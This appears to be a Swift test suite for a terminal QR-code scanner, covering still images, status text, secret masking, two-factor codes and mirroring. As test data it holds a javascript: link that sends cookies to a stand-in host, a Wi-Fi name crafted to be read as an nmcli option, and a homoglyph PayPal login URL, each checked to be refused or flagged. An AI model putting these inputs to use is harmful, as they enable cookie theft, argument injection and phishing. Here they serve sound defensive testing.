import CaptureKit
import CodeReading
import FrameCore
import Glibc
import OneTimeCodes
import Overlay
import SystemCalls
import Testing

@testable import ScanOptions
@testable import ScanPipeline
@testable import ScanTUI

@Suite struct LiveStateTests {
    let frame = Frame.filled(width: 1280, height: 720, value: 128)
    let code = DetectedCode(
        symbology: .qr, bytes: Array("hello".utf8),
        corners: [
            PixelPoint(x: 600, y: 300), PixelPoint(x: 600, y: 400),
            PixelPoint(x: 700, y: 400), PixelPoint(x: 700, y: 300),
        ])

    func started(_ options: Options = Options()) -> (LiveState, PixelRect) {
        var state = LiveState(options: options, source: .demo(reason: .requested))
        _ = state.update(.resize(columns: 120, rows: 40, cellAspect: 0.5))
        let effects = state.show(frame, kind: .live, now: 0)
        guard let area = effects.first?.scannedArea else { preconditionFailure("no scan asked for") }
        return (state, area)
    }

    /// A still cannot be aimed: it is shown whole and read whole, and the area can still be
    /// made smaller to choose among its codes.
    @Test func aStillIsShownAndReadWhole() {
        var state = LiveState(options: Options(input: "a.png"), source: .input("a.png", loop: false))
        _ = state.update(.resize(columns: 120, rows: 40, cellAspect: 0.5))
        let effects = state.show(frame, kind: .still, now: 0)
        #expect(effects.map(\.scannedArea) == [PixelRect(x: 0, y: 0, width: frame.width, height: frame.height)])
        let transform = state.transform
        #expect(transform?.mode == .fit)
        _ = state.update(.key(.character("-")))
        #expect(state.scanPixels.map { $0.width < frame.width } == true)
    }

    func still() -> (LiveState, PixelRect) {
        var state = LiveState(options: Options(input: "a.png"), source: .input("a.png", loop: false))
        _ = state.update(.resize(columns: 120, rows: 40, cellAspect: 0.5))
        guard let area = state.show(frame, kind: .still, now: 0).first?.scannedArea else {
            preconditionFailure("no scan asked for")
        }
        return (state, area)
    }

    /// A still's result stands (the picture cannot change under it): its badges with it.
    @Test func aStillKeepsItsResult() {
        var (state, area) = still()
        let link = DetectedCode(
            symbology: .qr, bytes: Array("https://p\u{430}ypal.com/login".utf8), corners: code.corners)
        _ = state.update(
            .scanned(FrameReading(codes: [link], frameSequence: 0, area: area), announcing: [link], now: 1))
        guard case .success(let summary) = state.status else {
            Issue.record("no success: \(state.status)")
            return
        }
        #expect(summary.warning == "lookalike")
        for now in stride(from: 1.0, through: 60, by: 0.5) { _ = state.update(.tick(now: now)) }
        #expect(state.status == .success(summary))
    }

    /// A still is read, not aimed at: while it is read the status says so, and when nothing
    /// was found it says that, never "aim the code into the brackets".
    @Test func aStillWithoutACodeSaysNoneWasFound() {
        var (state, area) = still()
        var grid = CellGrid(width: 120, height: 1)
        StatusBar.draw(state.status, info: state.scene(now: 0).info, unicode: true, row: 0, into: &grid)
        #expect(grid.lines[0].contains("reading the picture"))
        _ = state.update(.scanned(FrameReading(codes: [], frameSequence: 0, area: area), announcing: [], now: 2))
        #expect(state.status == .fail(reason: "no code found in the picture", hint: nil))
        _ = state.update(.key(.character("-")))
        _ = state.update(
            .scanned(FrameReading(codes: [], frameSequence: 0, area: state.scanPixels), announcing: [], now: 3))
        #expect(state.status == .fail(reason: "no code found in the scan area", hint: "end: the whole picture"))
        #expect(state.exitStatus == .nothingRead)
        // A moving picture still asks to aim it.
        let moving = started().0
        grid = CellGrid(width: 120, height: 1)
        StatusBar.draw(moving.status, info: moving.scene(now: 0).info, unicode: true, row: 0, into: &grid)
        #expect(grid.lines[0].contains("aim the code into the brackets"))
    }

    func reading(_ text: String) -> LiveState {
        var (state, area) = started()
        let read = DetectedCode(symbology: .qr, bytes: Array(text.utf8), corners: code.corners)
        _ = state.update(
            .scanned(FrameReading(codes: [read], frameSequence: 0, area: area), announcing: [read], now: 1))
        return state
    }

    /// `o` hands a handler the URI it takes; what runs code or opens local files never goes,
    /// however often `o` is pressed, and the notice says why.
    @Test func oOpensWhatAHandlerTakesAndNeverAScript() {
        var sms = reading("SMSTO:+15551234:hi there")
        #expect(sms.update(.key(.character("o"))) == [.open("sms:+15551234?body=hi%20there")])
        var script = reading("javascript:fetch('//x.example/'+document.cookie)")
        for _ in 0..<3 {
            #expect(script.update(.key(.character("o"))) == [.bell])
            #expect(script.notice?.text == "not opened: javascript: links run code or open local files")
        }
    }

    /// A network whose name starts with `-` is not handed to nmcli, which would take it for an option.
    @Test func aNetworkNamedLikeAnOptionIsNotJoined() {
        var state = reading("WIFI:T:WPA;S:-hostile;P:password --ask;;")
        #expect(state.update(.key(.character("w"))) == [.bell])
        #expect(state.update(.key(.character("w"))) == [.bell])
        #expect(state.notice?.text == "not joined: the network's name starts with '-'")
    }

    /// A secret shows as eight dots whatever its length; `r` shows it, the `h` list masks it too.
    @Test func secretsAreMaskedWithoutTheirLength() {
        for password in ["abc", "a much longer passphrase of 40 characters"] {
            var state = reading("WIFI:T:WPA;S:net;P:\(password);;")
            let meaning = state.lastSummary?.meaning ?? ""
            #expect(meaning.contains("password •••••••• ") && !meaning.contains(password))
            _ = state.update(.key(.character("h")))
            #expect(state.historyLines.count == 1)
            #expect(state.historyLines.allSatisfy { $0.contains("••••••••") && !$0.contains(password) })
            _ = state.update(.key(.character("h")))
            _ = state.update(.key(.character("r")))
            #expect(state.lastSummary?.meaning?.contains("password \(password)") == true)
        }
    }

    /// A two-factor code: issuer and account shown, its secret always masked (`r` reveals
    /// passwords, not this), copied by `c`, never handed to an opener; `t` shows the code now.
    @Test func aTwoFactorCodeKeepsItsSecret() throws {
        let secret = "JBSWY3DPEHPK3PXP"
        var state = reading("otpauth://totp/GitHub:alice?secret=\(secret)&issuer=GitHub")
        let meaning = state.lastSummary?.meaning ?? ""
        #expect(meaning == "2FA GitHub: alice (TOTP, 6 digits, 30 s, SHA1), secret ••••••••  t shows the code")
        #expect(state.historyLines.allSatisfy { !$0.contains(secret) })
        #expect(state.update(.key(.character("o"))) == [.bell])
        #expect(state.notice?.text == "not opened: a two-factor secret is never handed on")
        #expect(state.update(.key(.character("c"))) == [.copy(Array(secret.utf8))])
        _ = state.update(.key(.character("r")))
        #expect(state.lastSummary?.meaning?.contains(secret) == false)
        _ = state.update(.key(.character("t")))
        let generator = OneTimeCode(secret: [0x48, 0x65, 0x6C, 0x6C, 0x6F, 0x21, 0xDE, 0xAD, 0xBE, 0xEF])
        let now = try #require(generator.totp(at: state.codeShownAt ?? 0))
        #expect(
            state.lastSummary?.meaning?.hasSuffix(", code \(now.code) (\(now.secondsLeft) s left)  t hides it") == true)
        #expect(state.lastSummary?.meaning?.contains(secret) == false)
        var broken = reading("otpauth://totp/GitHub:alice?issuer=GitHub")
        #expect(broken.lastSummary?.warning == "no secret")
        #expect(broken.update(.key(.character("o"))) == [.bell])
    }

    func statusLine(_ state: LiveState, now: Double = 0) -> String {
        var grid = CellGrid(width: 160, height: 1)
        let scene = state.scene(now: now)
        StatusBar.draw(scene.status, info: scene.info, unicode: true, row: 0, into: &grid)
        return grid.lines[0]
    }

    /// A video that ended says so, and has no frame rate any more.
    @Test func theEndOfAVideoIsSaid() {
        var state = LiveState(options: Options(input: "clip.y4m"), source: .input("clip.y4m", loop: false))
        _ = state.update(.resize(columns: 160, rows: 40, cellAspect: 0.5))
        for n in 0..<10 {
            _ = state.show(
                frame.renumbered(sequence: n, timestamp: Double(n) / 30), kind: .recorded, now: Double(n) / 30)
        }
        #expect(statusLine(state).contains(" fps"))
        _ = state.update(.captureEnded)
        #expect(state.status == .stop(byUser: false))
        #expect(statusLine(state).contains("■ STOP  the video ended"))
        #expect(!statusLine(state).contains(" fps"))
    }

    /// The demo offered for want of a camera says so at once, before anything is read.
    @Test func theDemoSaysAtOnceThatNoCameraWasFound() {
        var state = LiveState(options: Options(), source: .demo(reason: .noCamera))
        _ = state.update(.resize(columns: 160, rows: 40, cellAspect: 0.5))
        #expect(statusLine(state).hasPrefix(" DEMO  ◎ Scanning no camera found: this is the demo"))
        _ = state.show(frame, kind: .live, now: 0)
        #expect(statusLine(state).contains("no camera found: this is the demo"))
        #expect(!statusLine(started().0).contains("no camera found"))  // the demo asked for
    }

    @Test func glyphsAndFiltersSayWhatTheyAre() {
        var options = Options()
        options.reading.symbologies = [.ean13]
        var (state, _) = started(options)
        _ = state.update(.key(.character("g")))
        #expect(state.scene(now: 0.1).info.notice == "glyphs: \(state.glyphs.rawValue)")
        #expect(state.scene(now: 0.1).info.looksFor == ["EAN-13"])
        #expect(started().0.scene(now: 0).info.looksFor == nil)
    }

    @Test func theFirstFrameSetsTheCentredScanAreaAndAsksForAScan() {
        let (state, area) = started()
        #expect(area == PixelRect(x: 424, y: 144, width: 432, height: 432))
        #expect(state.status == .scanning)
    }

    @Test func aNewCodeIsAnnouncedOnceWithABell() {
        var (state, area) = started()
        let result = FrameReading(codes: [code], frameSequence: 0, area: area)
        #expect(state.update(.scanned(result, announcing: [code], now: 1)) == [.bell])
        #expect(state.status == .success(CodeSummary(type: "QR-Code", text: "hello", byteCount: 5)))
        #expect(state.readCount == 1)
        #expect(state.update(.scanned(result, announcing: [], now: 1.1)).isEmpty)  // the same code again
        #expect(state.readCount == 1)
        #expect(state.exitStatus == .read)
    }

    /// `--history`: each announced code is recorded once, with its frame.
    @Test func aHistoryFileRecordsEachAnnouncedCode() {
        var options = Options()
        options.historyPath = "/tmp/h.jsonl"
        var (state, area) = started(options)
        let result = FrameReading(codes: [code], frameSequence: 7, area: area)
        #expect(
            state.update(.scanned(result, announcing: [code], now: 1))
                == [.record(code, frame: 7, source: state.source.name), .bell])
        #expect(state.update(.scanned(result, announcing: [], now: 1.1)).isEmpty)
        #expect(state.history.entries.map(\.count) == [1])
    }

    @Test func noBeepMeansNoBell() {
        var options = Options()
        options.beep = false
        var (state, area) = started(options)
        #expect(
            state.update(
                .scanned(FrameReading(codes: [code], frameSequence: 0, area: area), announcing: [code], now: 1)
            )
            .isEmpty)
        #expect(state.readCount == 1)
    }

    @Test func resultsForAnAreaLeftBehindAreIgnored() {
        var (state, area) = started()
        _ = state.update(.key(.right))
        // The outlines and status of the area left behind are stale (what the pipeline
        // announced would still stand: it announces a code once).
        #expect(
            state.update(.scanned(FrameReading(codes: [code], frameSequence: 0, area: area), announcing: [], now: 1))
                .isEmpty)
        #expect(state.status == .scanning)
        #expect(state.scene(now: 1).outlines.isEmpty)
    }

    @Test func arrowsAskForAScanOfTheMovedArea() {
        var (state, area) = started()
        guard let moved = state.update(.key(.right)).first?.scannedArea else {
            Issue.record("no scan")
            return
        }
        #expect(moved.x > area.x && moved.y == area.y && moved.width == area.width)
        guard let shrunk = state.update(.key(.shiftDown)).first?.scannedArea else {
            Issue.record("no scan")
            return
        }
        #expect(shrunk.height < area.height && shrunk.width == area.width)
    }

    @Test func successFadesToScanningButTheLastCodeStays() {
        var (state, area) = started()
        _ = state.update(
            .scanned(FrameReading(codes: [code], frameSequence: 0, area: area), announcing: [code], now: 1))
        _ = state.update(.scanned(FrameReading(codes: [], frameSequence: 1, area: area), announcing: [], now: 1.5))
        _ = state.update(.tick(now: 3))
        #expect(state.status != .scanning)
        _ = state.update(.tick(now: 4.1))
        #expect(state.status == .scanning)
        #expect(state.scene(now: 4.1).info.lastCode?.text == "hello")
    }

    @Test func enterCopiesTheLastCodeOnly() {
        var (state, area) = started()
        // Nothing read yet: a bell and a word why, no copy.
        #expect(state.update(.key(.enter)) == [.bell])
        #expect(state.scene(now: 0.5).info.notice == "nothing read yet to copy")
        _ = state.update(
            .scanned(FrameReading(codes: [code], frameSequence: 0, area: area), announcing: [code], now: 1))
        #expect(state.update(.key(.enter)) == [.copy(Array("hello".utf8))])
    }

    @Test func pauseFreezesThePicture() {
        var (state, _) = started()
        _ = state.update(.key(.space))
        #expect(state.paused)
        let next = Frame(width: 1280, height: 720, sequence: 9, luma: [UInt8](repeating: 0, count: 1280 * 720))
        #expect(state.show(next, kind: .live, now: 1).isEmpty)
        #expect(state.frame?.sequence == 0)
        #expect(!state.update(.key(.space)).isEmpty)  // resuming rescans
    }

    @Test func qAndSignalsStop() {
        var (state, _) = started()
        #expect(state.update(.key(.character("q"))) == [.quit])
        #expect(state.status == .stop(byUser: true))
        #expect(state.exitStatus == .nothingRead)
        var other = started().0
        #expect(other.update(.stopSignal(SIGINT)) == [.quit])
        #expect(other.stoppedBySignal == SIGINT)
    }

    @Test func deviceFailuresSayWhatToDo() {
        var state = LiveState(options: Options(device: "/dev/video0"), source: .device("/dev/video0"))
        _ = state.update(.captureFailed(.system(operation: "open", path: "/dev/video0", errno: .permissionDenied)))
        guard case .fail(let reason, let hint) = state.status else {
            Issue.record("not a failure")
            return
        }
        #expect(reason == "cannot open /dev/video0: Permission denied")
        #expect(hint?.contains("video group") == true)
        #expect(state.exitStatus == .failure)
    }

    @Test func aStillPictureStaysAfterItsInputEnds() {
        var state = LiveState(options: Options(input: "a.png"), source: .input("a.png", loop: false))
        _ = state.update(.resize(columns: 80, rows: 24, cellAspect: 0.5))
        _ = state.show(frame, kind: .live, now: 0)
        _ = state.update(.captureEnded)
        #expect(state.status == .scanning)
        #expect(state.frame != nil)
    }

    @Test func glyphsCycleAndHelpToggles() {
        var (state, _) = started()
        _ = state.update(.key(.character("g")))
        #expect(state.glyphs == .blocks)
        _ = state.update(.key(.character("?")))
        #expect(state.showHelp)
        _ = state.update(.key(.escape))  // closes the help, does not quit
        #expect(!state.showHelp)
        #expect(state.status == .scanning)
    }
}

extension LiveState {
    /// A frame from a source of `kind` (told once a session, as the loop tells it).
    mutating func show(_ frame: Frame, kind: SourceKind, now: Double) -> [LiveEffect] {
        _ = update(.sourceOpened(kind))
        return update(.frame(frame, now: now))
    }
}

extension LiveEvent {
    /// A reading of the scan area as the pipeline hands it over, with the codes its one rule
    /// (`Announcer`, tested with the reading thread) made news.
    static func scanned(_ reading: FrameReading, announcing announced: [DetectedCode], now: Double) -> LiveEvent {
        let frame = Frame(width: 1, height: 1, sequence: reading.frameSequence, luma: [0])
        let job = ScanJob(frame: frame, area: reading.area, kind: .live)
        return .scanned(PipelineReading(job: job, reading: reading, announced: announced), now: now)
    }
}

extension LiveEffect {
    /// The scan area a `.scan` effect asks for.
    var scannedArea: PixelRect? {
        if case .scan(let job) = self { return job.area }
        return nil
    }
}

/// `m` shows the picture mirrored (a camera facing the user); the frame as taken is read.
@Suite struct MirrorTests {
    @Test func theAreaReadAndTheOutlineFollowTheMirroredPicture() throws {
        // A frame darker on its left: mirrored, the screen's left shows its light right side.
        var luma = [UInt8](repeating: 200, count: 1280 * 720)
        for y in 0..<720 { for x in 0..<400 { luma[y * 1280 + x] = 20 } }
        let frame = Frame(width: 1280, height: 720, luma: luma)
        var state = LiveState(options: Options(), source: .device("/dev/video0"))
        _ = state.update(.resize(columns: 120, rows: 40, cellAspect: 0.5))
        _ = state.show(frame, kind: .live, now: 0)
        _ = state.update(.key(.left))  // the area moved left on screen
        let shownArea = try #require(state.scanArea?.rect)
        let effects = state.update(.key(.character("m")))
        let job = try #require(effects.first?.scannedArea)
        // The area lies over the mirrored picture: over the other side of the frame.
        #expect(job.x == 1280 - Int(shownArea.maxX.rounded()) && job.width == Int(shownArea.width.rounded()))
        #expect(state.scene(now: 0).image?.pixels[0] == 200 && state.frame?.luma[0] == 20)
        // A code read in the frame is outlined where the mirrored picture shows it.
        let code = DetectedCode(
            symbology: .qr, bytes: Array("mirror".utf8),
            corners: [
                PixelPoint(x: 100, y: 300), PixelPoint(x: 100, y: 400), PixelPoint(x: 200, y: 400),
                PixelPoint(x: 200, y: 300),
            ])
        _ = state.update(
            .scanned(FrameReading(codes: [code], frameSequence: 0, area: job), announcing: [code], now: 0.1))
        let outline = try #require(state.scene(now: 0.1).outlines.first)
        #expect(outline.map(\.x).min() == 1080 && outline.map(\.x).max() == 1180)
        // A camera key on a file is no camera's.
        var file = LiveState(options: Options(input: "a.png"), source: .input("a.png", loop: false))
        let onFile = file.update(.key(.character("z")))
        #expect(onFile == [.bell])
        #expect(file.notice?.text == "camera controls need a camera")
        let onCamera = state.update(.key(.character("z")))
        #expect(onCamera == [.camera(.zoomIn)])
    }
}
